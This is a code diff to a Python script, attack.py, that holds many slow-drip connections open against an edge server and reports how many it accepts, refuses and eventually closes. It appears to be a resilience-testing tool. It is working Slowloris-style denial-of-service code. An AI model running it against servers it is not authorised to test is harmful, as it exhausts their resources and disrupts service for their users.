@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
 """Attacks on an edge, one a call, with Python's standard library: attack.py ADDRESS ATTACK [NUMBER] → a JSON object.
 
-`held`      connections that the edge had accepted and not closed when the attack was at its height
+`held`      connections that the edge took
 `refused`   connections that it closed or reset at once
-`ended`     seconds until it had answered or closed all that were held, null where it had not within 15 seconds
+`ended`     seconds until it had answered or closed each that was held, null where it had not within 15 seconds
 `answers`   status of an answer (or `closed`) → how often
 """
 
@@ -53,29 +53,38 @@ async def ending(opened: Opened) -> str:
 
 async def hold(address: str, number: int, first: bytes, more: bytes, secure: bool = True) -> dict:
     """Open many connections, send `first` on each, then `more` each second, and see how long the edge has patience."""
-    results = await asyncio.gather(*(connect(address, secure) for _ in range(number)))
-    opened = [result for result in results if result]
-    began = time.monotonic()
-    ends = [asyncio.create_task(ending(one)) for one in opened]
+    gate = asyncio.Semaphore(20)  # all at once, they would keep each other from ending their handshakes
 
-    async def drip(writer: asyncio.StreamWriter) -> None:
-        with contextlib.suppress(OSError, ssl.SSLError):
-            writer.write(first)
-            while more:
-                await asyncio.sleep(1)
-                writer.write(more)
+    async def one() -> tuple[str, float] | None:
+        async with gate:
+            opened = await connect(address, secure)
+        if not opened:
+            return None
+        began = time.monotonic()
 
-    drips = [asyncio.create_task(drip(writer)) for _reader, writer in opened]
-    await asyncio.sleep(0.5)
-    held = sum(not end.done() for end in ends)
-    done, waiting = await asyncio.wait(ends, timeout=PATIENCE) if ends else (set(), set())
-    for task in (*drips, *waiting):
-        task.cancel()
+        async def drip() -> None:
+            with contextlib.suppress(OSError, ssl.SSLError):
+                opened[1].write(first)
+                while more:
+                    await asyncio.sleep(1)
+                    opened[1].write(more)
+
+        drips = asyncio.create_task(drip())
+        try:
+            return await asyncio.wait_for(ending(opened), PATIENCE), time.monotonic() - began
+        except asyncio.TimeoutError:
+            return "", PATIENCE
+        finally:
+            drips.cancel()
+
+    held = [result for result in await asyncio.gather(*(one() for _ in range(number))) if result]
+    answers = collections.Counter(answer for answer, _seconds in held if answer)
+    longest = max((seconds for _answer, seconds in held), default=0)
     return {
-        "held": held,
-        "refused": number - held,
-        "ended": None if waiting else round(time.monotonic() - began, 1),
-        "answers": collections.Counter(end.result() for end in done),
+        "held": len(held),
+        "refused": number - len(held),
+        "ended": round(longest, 1) if answers.total() == len(held) else None,
+        "answers": answers,
     }
 
 
